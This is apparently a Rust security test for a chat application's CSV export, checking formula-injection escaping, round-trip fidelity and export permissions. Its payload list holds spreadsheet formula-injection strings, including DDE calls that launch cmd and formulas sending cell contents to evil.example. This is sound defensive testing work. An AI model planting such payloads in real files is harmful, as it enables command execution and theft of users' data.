//! S18: what leaves as CSV is text in every spreadsheet, is all there, and can be read in again.
//!
//! The readers here are our own: a strict one (RFC 4180) for what is read in again, and a lenient one that takes
//! commas, semicolons or tabs for separators and drops what spreadsheets drop before they look for a formula.

use std::collections::BTreeMap;

use reqwest::Method;
use serde_json::{Value, json};

use crate::{
    check::{Error, Guard, Outcome},
    client::Client,
    engine::Engine,
    program::Program,
    report::Report,
    world::{chat, colleague, conversation, key, neighbours, team, wait},
};

/// Formulas that call home or start programs, and what hides them from a careless filter.
const PAYLOADS: [&str; 44] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Kattints\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example/\")",
    "=IMAGE(\"http://evil.example/x.png\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "@rundll32|'x'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+36 30 123 4567",
    "-1",
    "--1",
    "==1",
    "=",
    "+",
    "-",
    "@",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    " =1+1",
    "  +1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\"=1+1",
    "\"\"=1+1\"\"",
    "'=1+1",
    "''=1+1",
    "x,=1+1",
    "x;=1+1",
    "x;\"=1+1",
    "x\";=1+1",
    "\";=1+1;\"",
    "',=1+1,'",
    "it's, 'quoted'",
    "Kovács; -20 %",
    "=\"\"&\"x;=1\"",
    ";;;=1",
];
/// These hold signs that names are cleaned of; traits keep them.
const UNCLEAN: [&str; 8] =
    ["\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "x\n=1+1", "x\r\n+1", "x\t=1", "\u{0}=1+1"];
/// With the others more than a page of the export.
const MORE: usize = 160;
const MARK: char = '\'';

pub async fn run(guard: Guard) -> Outcome {
    let mut report = Report::new();
    for engine in Engine::BOTH {
        examine(engine, guard, &mut report).await?;
    }
    Ok(report)
}

async fn examine(engine: Engine, guard: Guard, report: &mut Report) -> Result<(), Error> {
    let off = if guard == Guard::Off { "csv-escape" } else { "" };
    let variables = [("RATE_LIMITS", "false"), ("TEST_GUARDS_OFF", off)];
    let (program, neighbour) = neighbours(engine, &variables).await?;
    let admin = program.admin();
    let people = fill(&admin).await?;
    let hidden = hide_one(&admin).await?;
    let tables = [
        ("people", download(&admin, "/api/v1/people/export?bom=true").await?),
        ("conversations", download(&admin, "/api/v1/conversations/export").await?),
    ];
    for (name, text) in &tables {
        let formulas: Vec<String> = [',', ';', '\t']
            .into_iter()
            .flat_map(|separator| lenient(text, separator))
            .filter(|cell| is_formula(cell))
            .collect();
        report.assert_none(format!("{engine}: {name}: no cell of any spreadsheet is a formula"), &formulas);
    }
    let bom = tables[0].1.starts_with('\u{feff}') && !tables[1].1.starts_with('\u{feff}');
    report.assert(format!("{engine}: the byte order mark is there when asked for"), bom, "");
    report.assert(
        format!("{engine}: all {people} people are there"),
        records(&tables[0].1)?.len() > people,
        records(&tables[0].1)?.len(),
    );
    same_people(engine, &admin, &tables[0].1, report).await?;
    same_conversations(engine, &admin, &tables[1].1, report).await?;
    read_in(engine, &neighbour, &tables[0].1, report).await?;
    rights(engine, &program, &hidden, report).await
}

/// A person for each payload, in each field that takes it, and a conversation with it as its subject.
async fn fill(admin: &Client) -> Result<usize, Error> {
    let (_, chat_key) = chat(admin, "=Csevegés;+1", None).await?;
    let (id, _) = conversation(admin, &chat_key, "Jó napot").await?;
    for payload in PAYLOADS {
        let made = admin.post("/api/v1/people", json!({ "name": payload })).await?.good()?.id();
        let traits = json!({ "traits": { "megjegyzés": payload, "=kulcs": [payload] } });
        admin.patch(&format!("/api/v1/people/{made}"), traits).await?.good()?;
    }
    for unclean in UNCLEAN {
        let made = admin.post("/api/v1/people", json!({ "name": "Tiszta név" })).await?.good()?.id();
        let traits = json!({ "traits": { "megjegyzés": unclean.replace('\0', "") } });
        admin.patch(&format!("/api/v1/people/{made}"), traits).await?.good()?;
    }
    for number in 0..MORE {
        let body =
            json!({ "name": format!("Sokadik {number}"), "email": format!("=x{number}@pelda.example") });
        admin.post("/api/v1/people", body).await?.good()?;
    }
    for (payload, number) in PAYLOADS.iter().zip(0..) {
        let (other, _) = conversation(admin, &chat_key, &format!("Kérdés {number}.")).await?;
        let path = format!("/api/v1/conversations/{other}/subject");
        let told = admin.call(Method::PUT, &path, Some(json!({ "subject": payload }))).await?;
        told.good()?;
    }
    let tag = admin.post("/api/v1/tags", json!({ "name": "=címke;=1" })).await?.good()?.id();
    admin.call(Method::PUT, &format!("/api/v1/conversations/{id}/tags/{tag}"), None).await?.good()?;
    Ok(PAYLOADS.len() + UNCLEAN.len() + MORE)
}

/// A conversation of a private team; its number.
async fn hide_one(admin: &Client) -> Result<String, Error> {
    let private = team(admin, "Zárt", true, &[]).await?;
    let (_, key) = chat(admin, "Zárt csevegés", Some(&private)).await?;
    let (id, _) = conversation(admin, &key, "Titok").await?;
    let found = admin.get(&format!("/api/v1/conversations/{id}")).await?.good()?.json();
    Ok(found["number"].as_str().unwrap_or_default().to_owned())
}

async fn download(client: &Client, path: &str) -> Result<String, Error> {
    let answer = client.get(path).await?.good()?;
    if answer.header("content-type").starts_with("text/csv")
        && answer.header("content-disposition").starts_with("attachment")
    {
        Ok(answer.text)
    } else {
        Err(format!("{path} is no download of CSV").into())
    }
}

/// Rows by the names of their columns, with the apostrophes taken away again as documented.
fn rows(text: &str) -> Result<Vec<BTreeMap<String, String>>, Error> {
    let mut records = records(text)?.into_iter();
    let names = records.next().ok_or("no head")?;
    Ok(records.map(|cells| names.iter().cloned().zip(cells.iter().map(|c| plain(c))).collect()).collect())
}

async fn same_people(engine: Engine, admin: &Client, text: &str, report: &mut Report) -> Result<(), Error> {
    let rows = rows(text)?;
    let mut differ = Vec::new();
    for person in admin.all("/api/v1/people").await? {
        let Some(row) = rows.iter().find(|row| person["id"] == row["id"].as_str()) else {
            differ.push(format!("{} is missing", person["name"]));
            continue;
        };
        for field in ["name", "email", "phone", "locale", "created_at"] {
            if person[field].as_str().unwrap_or_default() != row[field] {
                differ.push(format!("{field}: {} is {:?}", person[field], row[field]));
            }
        }
        for field in ["traits", "identities"] {
            if serde_json::from_str::<Value>(&row[field]).ok().as_ref() != Some(&person[field]) {
                differ.push(format!("{field}: {} is {:?}", person[field], row[field]));
            }
        }
    }
    report.assert_none(format!("{engine}: people: read in again it is what it was"), &differ);
    Ok(())
}

async fn same_conversations(
    engine: Engine,
    admin: &Client,
    text: &str,
    report: &mut Report,
) -> Result<(), Error> {
    let rows = rows(text)?;
    let mut differ = Vec::new();
    let all = admin.all("/api/v1/conversations?view=all").await?;
    for one in &all {
        let found = rows.iter().find(|row| one["id"] == row["id"].as_str());
        let tags: Vec<&Value> =
            one["tags"].as_array().into_iter().flatten().map(|tag| &tag["name"]).collect();
        let written = json!(tags).to_string();
        let is_same = found.is_some_and(|row| {
            one["subject"] == row["subject"].as_str()
                && one["number"] == row["number"].as_str()
                && one["channel"]["name"] == row["channel"].as_str()
                && row["tags"] == written
        });
        if !is_same {
            differ.push(format!("{}: {found:?}", one["subject"]));
        }
    }
    report.assert(format!("{engine}: conversations: there were many"), all.len() > PAYLOADS.len(), all.len());
    report.assert_none(format!("{engine}: conversations: read in again it is what it was"), &differ);
    Ok(())
}

/// Everybody read into another workspace, and out of it again.
async fn read_in(engine: Engine, other: &Client, text: &str, report: &mut Report) -> Result<(), Error> {
    let mut wanted: Vec<BTreeMap<String, String>> = rows(text)?;
    // A visitor of a chat who told nothing cannot be entered by hand: nobody could say who that is.
    wanted.retain(|row| ["name", "email", "phone"].iter().any(|field| !row[*field].is_empty()));
    report.assert(
        format!("{engine}: there is somebody to read in"),
        wanted.len() > PAYLOADS.len(),
        wanted.len(),
    );
    let known = |row: &BTreeMap<String, String>| {
        (row["name"].clone(), row["email"].clone(), row["phone"].clone(), row["traits"].clone())
    };
    for row in wanted.iter().rev() {
        let given = |field: &str| (!row[field].is_empty()).then(|| row[field].clone());
        let body = json!({ "name": given("name"), "email": given("email"), "phone": given("phone") });
        let made = other.post("/api/v1/people", body).await?.good()?.id();
        let traits: Value = serde_json::from_str(&row["traits"])?;
        other.patch(&format!("/api/v1/people/{made}"), json!({ "traits": traits })).await?.good()?;
    }
    let again = rows(&download(other, "/api/v1/people/export").await?)?;
    let differ: Vec<String> = wanted
        .iter()
        .zip(&again)
        .filter(|(one, two)| known(one) != known(two))
        .map(|(one, two)| format!("{:?} is {:?}", known(one), known(two)))
        .collect();
    report.assert(
        format!("{engine}: as many come out of the other workspace"),
        wanted.len() == again.len(),
        "",
    );
    report.assert_none(format!("{engine}: export, import, export: the same"), &differ);
    Ok(())
}

async fn rights(engine: Engine, program: &Program, hidden: &str, report: &mut Report) -> Result<(), Error> {
    let admin = program.admin();
    let lead = colleague(&admin, "lajos", "lead").await?;
    let agent = colleague(&admin, "agnes", "agent").await?;
    let (_, reader) = key(&admin, "Olvasó", &["read"]).await?;
    let mut allowed = Vec::new();
    for path in ["/api/v1/people/export", "/api/v1/conversations/export"] {
        for (who, client) in [("an agent", &agent.client), ("a reading key", &reader)] {
            let answer = client.get(path).await?;
            if answer.status != 403 {
                allowed.push(format!("{who}: {path}: {}", answer.status));
            }
        }
        let stranger = program.stranger().get(path).await?;
        if stranger.status != 401 {
            allowed.push(format!("a stranger: {path}: {}", stranger.status));
        }
    }
    report
        .assert_none(format!("{engine}: only leads and administrators may take everything along"), &allowed);
    let of_lead = download(&lead.client, "/api/v1/conversations/export").await?;
    report.assert(
        format!("{engine}: a lead gets nothing of a private team"),
        !of_lead.contains(hidden) && download(&admin, "/api/v1/conversations/export").await?.contains(hidden),
        hidden,
    );
    let audit = wait(std::time::Duration::from_secs(2), || async {
        let acts = admin.all("/api/v1/audit?action=conversations.exported").await?;
        Ok((acts.len() >= 3).then_some(acts))
    });
    let by_lead =
        audit.await?.is_some_and(|acts| acts.iter().any(|act| act["actor"]["id"] == lead.id.as_str()));
    report.assert(format!("{engine}: who exported is in the log of acts"), by_lead, "");
    Ok(())
}

/// RFC 4180, to the letter: every cell in quotes, every line ends with CRLF, all lines are equally long.
fn records(text: &str) -> Result<Vec<Vec<String>>, Error> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut records: Vec<Vec<String>> = vec![Vec::new()];
    let mut rest = text;
    while let Some(quoted) = rest.strip_prefix('"') {
        let mut cell = String::new();
        let mut left = quoted;
        loop {
            let (part, after) = left.split_once('"').ok_or("a cell has no end")?;
            cell.push_str(part);
            match after.strip_prefix('"') {
                Some(more) => {
                    cell.push('"');
                    left = more;
                }
                None => {
                    left = after;
                    break;
                }
            }
        }
        records.last_mut().ok_or("no record")?.push(cell);
        if let Some(next) = left.strip_prefix(',') {
            rest = next;
        } else {
            rest = left.strip_prefix("\r\n").ok_or("a cell is followed by something else")?;
            records.push(Vec::new());
        }
    }
    let last = records.pop().ok_or("no record")?;
    let width = records.first().map_or(0, Vec::len);
    if !rest.is_empty() || !last.is_empty() || records.iter().any(|record| record.len() != width) {
        return Err("not a table".into());
    }
    Ok(records)
}

/// What a spreadsheet with this separator makes of the text: a quote counts at the beginning of a cell only, and what
/// follows its end belongs to the cell.
fn lenient(text: &str, separator: char) -> Vec<String> {
    let mut cells = Vec::new();
    let mut signs = text.trim_start_matches('\u{feff}').chars().peekable();
    while signs.peek().is_some() {
        let mut cell = String::new();
        if signs.next_if_eq(&'"').is_some() {
            while let Some(sign) = signs.next() {
                if sign != '"' {
                    cell.push(sign);
                } else if signs.next_if_eq(&'"').is_some() {
                    cell.push('"');
                } else {
                    break;
                }
            }
        }
        for sign in signs.by_ref() {
            if sign == separator || sign == '\n' || sign == '\r' {
                break;
            }
            cell.push(sign);
        }
        cells.push(cell);
    }
    cells
}

fn is_formula(cell: &str) -> bool {
    let dropped =
        |sign: char| sign.is_whitespace() || sign.is_control() || "\"\u{200b}\u{feff}".contains(sign);
    let shown = cell.trim_start_matches(dropped);
    shown.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'])
        || cell.starts_with(['\t', '\r'])
}

/// The documented way back: at the start of a cell and after `;` tab and line breaks, one of the apostrophes that
/// stand before a formula sign goes away; quotes, spaces and invisible signs may precede them.
fn plain(cell: &str) -> String {
    let mut out = String::new();
    let mut rest = cell;
    let mut start = true;
    let mut begins = true;
    while !rest.is_empty() {
        if begins {
            let marked = rest.trim_start_matches(|sign| "\" \u{a0}\u{200b}\u{feff}".contains(sign));
            out.push_str(&rest[..rest.len() - marked.len()]);
            let bare = marked.trim_start_matches(MARK);
            let signs =
                if start { "=+-@＝＋－＠﹦﹢﹣﹫\t\r\n" } else { "=+-@＝＋－＠﹦﹢﹣﹫" };
            let is_escaped = bare.len() < marked.len() && bare.starts_with(|sign| signs.contains(sign));
            rest = if is_escaped { &marked[MARK.len_utf8()..] } else { marked };
            // The other apostrophes are the text's own.
            let kept = rest.trim_start_matches(MARK);
            out.push_str(&rest[..rest.len() - kept.len()]);
            rest = kept;
            start = false;
        }
        let Some(sign) = rest.chars().next() else { break };
        out.push(sign);
        rest = &rest[sign.len_utf8()..];
        begins = ";\t\r\n".contains(sign);
    }
    out
}
